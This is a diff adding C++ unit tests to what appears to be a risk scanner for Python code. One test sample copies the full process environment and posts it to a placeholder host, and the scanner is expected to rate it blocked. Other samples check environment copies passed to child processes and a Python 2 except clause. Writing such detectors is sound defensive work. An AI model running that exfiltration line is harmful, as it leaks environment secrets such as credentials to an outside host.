@@ -71,3 +71,24 @@ TEST(AssessFlow, XorDecodedCodeIsExecutedPayload) {
   EXPECT_EQ(level("import sys\ndata = open(sys.argv[1], 'rb').read()\nprint(bytes(b ^ 0x55 for b in data)[:4])\n"),
             RiskLevel::low);
 }
+
+TEST(AssessFlow, EnvironmentCopiesSentOutButNotHandedToChildren) {
+  // A dict literal that unpacks the environment is a copy of it, wherever the name goes.
+  EXPECT_EQ(level("import os, requests\nsnap = {**os.environ}\nrequests.post('https://c.example.net', json=snap)\n"),
+            RiskLevel::blocked);
+  // A copy given to a child process (env=) sends nothing out, even beside a network client.
+  EXPECT_EQ(level("import os, subprocess, requests\nsubprocess.run(['make'], env={**os.environ, 'CI': '1'})\n"
+                  "env = os.environ.copy()\nsubprocess.run(['make'], env=env)\n"
+                  "requests.get('https://status.example.com/ping')\n"),
+            RiskLevel::medium);
+}
+
+TEST(AssessFlow, PythonTwoExceptClause) {
+  EXPECT_EQ(level("import socket, os\ntry:\n    socket.create_connection(('203.0.113.1', 80))\n"
+                  "except socket.error, e:\n    pass\n"),
+            RiskLevel::blocked);
+  // Python 3's bracketed form is not Python 2.
+  EXPECT_EQ(level("import socket\ntry:\n    socket.create_connection(('example.com', 80))\n"
+                  "except (OSError, ValueError) as e:\n    pass\n"),
+            RiskLevel::medium);
+}
